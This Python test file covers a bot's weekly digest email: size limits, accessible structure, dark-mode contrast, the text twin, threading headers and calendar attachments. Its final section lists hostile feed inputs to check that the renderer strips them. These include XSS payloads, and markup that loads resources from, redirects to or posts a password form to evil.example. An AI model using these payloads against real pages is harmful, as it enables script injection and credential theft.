"""Facts that every digest keeps: size, structure, twin, dark mode, headers, and nothing alive from hostile feeds."""

from __future__ import annotations

import itertools
import re
import tarfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, date, datetime
from email import message_from_bytes
from html.parser import HTMLParser
from pathlib import Path

import pytest

from bot.deliver import render_digest, write_digest
from bot.deliver._labels import LOCALES, labels
from bot.deliver._mail_mime import build
from bot.types.delivery import Alert, ChannelTarget, Message
from bot.types.digest import DigestContent, DigestStory
from bot.types.ids import DeliveryId, SectorId, StoryId
from bot.types.settings import MailSettings
from tests.fakes.alerts import CHINA_JAPAN, HOSTILE, delivery
from tests.fakes.weeks import HUGE, ORDINARY, QUIET, WEEKS

SHARED = Path(__file__).resolve().parents[2] / ".." / "shared" / "data" / "feeds" / "feedparser-tests.tar.gz"

weeks = pytest.mark.parametrize("name", WEEKS)
locales = pytest.mark.parametrize("locale", LOCALES)


class Reader(HTMLParser):
    """Tags, attributes and visible text of a mail, heading by heading."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.style = ""
        self._open: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        while self._open and self._open.pop() != tag:
            pass

    def handle_data(self, data: str) -> None:
        if "style" in self._open:
            self.style += data
        else:
            self.text += data

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.tags if name == tag]


def html_of(message: Message) -> str:
    return str(message.payload["html"])


@weeks
@locales
def test_the_mail_stays_below_what_programs_cut(name: str, locale: str) -> None:
    assert len(html_of(render_digest(WEEKS[name], locale)).encode()) < 100_000


@weeks
def test_the_structure_can_be_read_aloud(name: str) -> None:
    mail = Reader(html_of(render_digest(WEEKS[name], "nl")))
    assert mail.named("html") == [{"lang": "nl"}]
    assert len(mail.named("h1")) == 1
    layout = [t for t in mail.named("table") if t.get("class") != "grid"]
    assert layout
    assert all(t.get("role") == "presentation" for t in layout)
    assert mail.named("img") == []
    levels = [int(tag[1]) for tag, _ in mail.tags if re.fullmatch(r"h[1-6]", tag)]
    assert all(b - a <= 1 for a, b in itertools.pairwise(levels)), "no heading level is skipped"


@weeks
def test_nothing_is_fetched_when_the_mail_is_opened(name: str) -> None:
    html = html_of(render_digest(WEEKS[name], "en"))
    assert not re.search(r"<(img|link|iframe|object|video|audio|source|embed)\b", html)
    assert not re.search(r"url\(|@import|@font-face", Reader(html).style)
    assert all("src" not in attributes for _, attributes in Reader(html).tags)


@weeks
def test_dark_mode_survives_the_inlining(name: str) -> None:
    mail = Reader(html_of(render_digest(WEEKS[name], "en")))
    metas = {m.get("name"): m.get("content") for m in mail.named("meta")}
    assert metas["color-scheme"] == metas["supported-color-schemes"] == "light dark"
    dark = mail.style.partition("@media (prefers-color-scheme: dark)")[2]
    assert dark.count("!important") > 30
    assert any("style" in attributes for _, attributes in mail.tags)


def luminance(colour: str) -> float:
    """Relative luminance (WCAG 2.2)."""
    channels = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def contrast(one: str, two: str) -> float:
    high, low = sorted((luminance(one), luminance(two)), reverse=True)
    return (high + 0.05) / (low + 0.05)


def test_text_stands_out_by_day_and_by_night() -> None:
    """At least 4.5 : 1 for every text colour on the ground it stands on."""
    style = Reader(html_of(render_digest(ORDINARY, "en"))).style
    day, _, night = style.partition("@media (prefers-color-scheme: dark)")

    def colour(sheet: str, selector: str, key: str = "color") -> str:
        found = re.findall(rf"(?m)^\s*(?:[^{{}}]*,\s*)?{re.escape(selector)}\s*(?:,[^{{}}]*)?{{([^}}]*)}}", sheet)
        values = [v for rule in found for v in re.findall(rf"(?<![\w-]){key}:\s*(#[0-9a-f]{{6}})", rule)]
        assert values, f"{selector} has no {key}"
        return str(values[-1])

    for sheet in (day, night):
        card = colour(sheet, ".card", "background")
        for selector in (".dim", ".was", ".foot", ".cap", "a", "h2", "h3", ".ok", ".open", "li", ".num"):
            assert contrast(colour(sheet, selector), card) >= 4.5, selector
        for badge in (".badge", ".t-urgent", ".t-alert", ".t-digest", "mark", "blockquote"):
            assert contrast(colour(sheet, badge), colour(sheet, badge, "background")) >= 4.5, badge


@locales
def test_the_text_twin_says_all_that_the_html_says(locale: str) -> None:
    message = render_digest(ORDINARY, locale)
    twin, words = str(message.payload["text"]), labels(locale)
    for story in ORDINARY.stories:
        assert words.pick(story.alert.headlines) in twin
    texts = [(m.title, m.url) for m in ORDINARY.near_misses] + [(a.title, a.url) for a in ORDINARY.audit]
    for title, url in texts:
        assert title in twin
        assert url in twin
    for trouble in ORDINARY.troubles:
        assert trouble.publisher in twin
    for key in ("digest.by-sector", "digest.changes", "digest.dates", "digest.near", "digest.shadow", "digest.audit"):
        assert words(key) in twin
        assert words(key) in Reader(html_of(message)).text
    assert "<" not in twin


def test_every_story_stands_once_under_its_most_exposed_sector() -> None:
    mail = Reader(html_of(render_digest(ORDINARY, "en")))
    anchors = [t["id"] for t in mail.named("table") if "id" in t]
    assert anchors == ["s1", "s3", "s2", "s4"], "grouped: semiconductors, wind, no sector"
    links = [a["href"] for a in mail.named("a") if a["href"].startswith("#")]
    assert links == ["#s1", "#s2", "#s3", "#s4"], "ranked in the chart"
    assert "also hits Cars, Wind turbines, Medical devices" in mail.text


def test_a_reader_of_one_sector_gets_that_sector() -> None:
    narrowed = ORDINARY.narrowed((SectorId("wind"),))
    mail = Reader(html_of(render_digest(narrowed, "en")))
    assert [s.alert.story_id for s in narrowed.stories] == ["s-1", "s-2", "s-3"]
    assert "No sector of yours" not in mail.text
    twin = str(render_digest(narrowed, "en").payload["text"])
    assert re.findall(r"(?m)^-- (.+) --$", twin) == ["Wind turbines"], "and under its own heading"
    medical = ORDINARY.narrowed((SectorId("medical-devices"),))
    assert [s.alert.story_id for s in medical.stories] == ["s-1", "s-3"]
    assert [d.story_id for d in medical.dates] == ["s-3"]
    assert ORDINARY.narrowed(()) is ORDINARY


def test_a_quiet_week_says_that_the_watch_went_on() -> None:
    message = render_digest(QUIET, "en")
    for text in (str(message.payload["text"]), Reader(html_of(message)).text):
        assert "A quiet week: nothing passed the threshold." in text
        assert "1840 texts from 42 sources" in text
        assert "All 42 sources answered." in text
    assert "attachments" not in message.payload


def test_the_bars_show_the_numbers_beside_them() -> None:
    html = html_of(render_digest(ORDINARY, "en"))
    widths = [int(w) for w in re.findall(r'class="bar b-\w+" style="[^"]*width:(\d+)%', html)]
    assert widths == [86, 58, 41, 31]
    scores = re.findall(r'<td class="n"[^>]*><strong>(\d+)</strong>', html)
    assert scores == ["86", "58", "41", "31"]


def test_a_huge_week_shows_25_stories_and_says_how_many_it_left_out() -> None:
    message = render_digest(HUGE, "en")
    mail = Reader(html_of(message))
    assert len([t for t in mail.named("table") if "id" in t]) == 25
    assert "15 more stories of lower score are in the archive." in mail.text


def test_weeks_thread_per_team_and_reader_and_no_two_mails_share_an_id() -> None:
    settings = MailSettings(sender="Bot <bot@team.example>")

    def headers(week: str, who: str, row: str) -> tuple[str, str]:
        target = ChannelTarget(name="digest", kind="email", address=who)
        message = render_digest(replace(ORDINARY, week=week), "en")
        mail = message_from_bytes(build(delivery(message, target, id=DeliveryId(row)), settings).data)
        return mail["Message-ID"], mail["References"]

    first, again = headers("2026-W02", "a@x.example", "d-1"), headers("2026-W02", "a@x.example", "d-2")
    assert first == again, "a second row for the same reader and week is the same mail"
    later, other = headers("2026-W03", "a@x.example", "d-3"), headers("2026-W02", "b@x.example", "d-4")
    assert len({first[0], later[0], other[0]}) == 3
    assert first[1] == later[1] != other[1]


def test_writing_a_digest_leaves_files_that_programs_open(tmp_path: Path) -> None:
    paths = write_digest(render_digest(ORDINARY, "ja"), tmp_path / "out", to="reader@team.example")
    assert [p.name for p in paths] == ["digest.html", "digest.txt", "digest.eml", "monazite-2026-W02.ics"]
    assert all(p.stat().st_size for p in paths)
    eml = paths[2].read_bytes()
    assert b"Date: Mon, 12 Jan 2026 06:30:00 +0000" in eml
    assert b"text/calendar" in eml
    again = write_digest(render_digest(ORDINARY, "ja"), tmp_path / "again", to="reader@team.example")
    assert again[2].read_bytes() == eml
    with pytest.raises(ValueError, match="no digest"):
        write_digest(Message(kind="email", payload={}, summary=""), tmp_path)


def test_dates_ahead_come_as_a_calendar_that_updates_itself() -> None:
    long = replace(ORDINARY.dates[0], headlines={"en": "Ministry; consults, on licences \\ " + "for 稀土 magnets " * 9})
    week = replace(ORDINARY, dates=(long, *ORDINARY.dates[1:]))

    def body(content: DigestContent) -> str:
        attachments = render_digest(content, "en").payload["attachments"]
        assert isinstance(attachments, list)
        return str(attachments[0]["text"])

    text = body(week)
    assert text.startswith("BEGIN:VCALENDAR\r\n")
    assert text.endswith("END:VCALENDAR\r\n")
    assert all(len(line.encode()) <= 75 for line in text.split("\r\n"))
    unfolded = text.replace("\r\n ", "").split("\r\n")
    assert "DTSTART;VALUE=DATE:20260201" in unfolded
    assert "DTEND;VALUE=DATE:20260202" in unfolded
    (summary,) = (line for line in unfolded if line.startswith("SUMMARY:Ministry"))
    assert summary.startswith("SUMMARY:Ministry\\; consults\\, on licences \\\\ for 稀土 magnets")
    uids = [line for line in unfolded if line.startswith("UID:")]
    assert len(set(uids)) == 2
    next_week = replace(week, week="2026-W03", made_at=datetime(2026, 1, 19, tzinfo=UTC))
    assert uids == [line for line in body(next_week).replace("\r\n ", "").split("\r\n") if line.startswith("UID:")]
    moved = replace(week, dates=(replace(long, day=date(2026, 3, 1)),))
    assert uids[0] in body(moved).replace("\r\n ", "")  # calendars move the entry, too


# -- what hostile feeds write ------------------------------------------------------------------------------------------

CORPUS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=password>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body background=https://evil.example/pixel.gif>",
    "<div style='background:url(https://evil.example/pixel.gif)'>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ ''.__class__.__mro__ }}{% for x in y %}",
)


def poisoned(text: str) -> DigestContent:
    """A week in which every text is this one."""
    alert: Alert = replace(
        HOSTILE,
        story_id=StoryId("s-1"),
        headlines={"en": text},
        why=(text,),
        quote=replace(CHINA_JAPAN.quote, text=text, publisher=text, lang=text, marks=((0, 5),))
        if CHINA_JAPAN.quote
        else None,
        sources=tuple(replace(s, publisher=text, title=text, lang=text, url=text) for s in CHINA_JAPAN.sources),
        confirmed_by=text,
        effective=text,
        sectors=((SectorId("x"), text, 1.0),),
        sector_names={},
    )
    return replace(
        ORDINARY,
        team=text,
        stories=(DigestStory(alert=alert, changes=(text,)),),
        near_misses=tuple(
            replace(m, title=text, lang=text, publisher=text, url=text, missing=text) for m in ORDINARY.near_misses
        ),
        audit=tuple(replace(a, title=text, lang=text, publisher=text, url=text) for a in ORDINARY.audit),
        troubles=tuple(replace(t, publisher=text, message=text) for t in ORDINARY.troubles),
    )


def assert_dead(html: str) -> None:
    """The mail has exactly the elements of a mail from harmless words."""
    harmless = Reader(html_of(render_digest(poisoned("harmless words"), "en")))
    mail = Reader(html)
    assert {tag for tag, _ in mail.tags} <= {tag for tag, _ in harmless.tags} | {"mark", "a"}
    for _, attributes in mail.tags:
        assert not any(name.startswith("on") for name in attributes)
        assert re.match(r"$|https?://|#s\d+$", attributes.get("href", ""))
    assert mail.style == harmless.style


@pytest.mark.parametrize("text", CORPUS)
def test_hostile_markup_is_dead(text: str) -> None:
    assert_dead(html_of(render_digest(poisoned(text), "en")))


def corpus_files() -> Iterator[str]:
    with tarfile.open(SHARED) as archive:
        for member in archive:
            if member.isfile() and "sanitize" in member.name and member.name.endswith(".xml"):
                file = archive.extractfile(member)
                if file is not None:
                    yield file.read().decode("utf-8", "surrogateescape")


@pytest.mark.slow
@pytest.mark.skipif(not SHARED.exists(), reason="the corpus of feed tests is not beside this checkout")
def test_the_corpus_of_feed_readers_is_dead() -> None:
    files = list(corpus_files())
    assert len(files) > 500
    for text in files[::2]:
        body = re.sub(r"(?s)^<!--.*?-->", "", text).strip()
        assert_dead(html_of(render_digest(poisoned(body[-300:-60]), "en")))
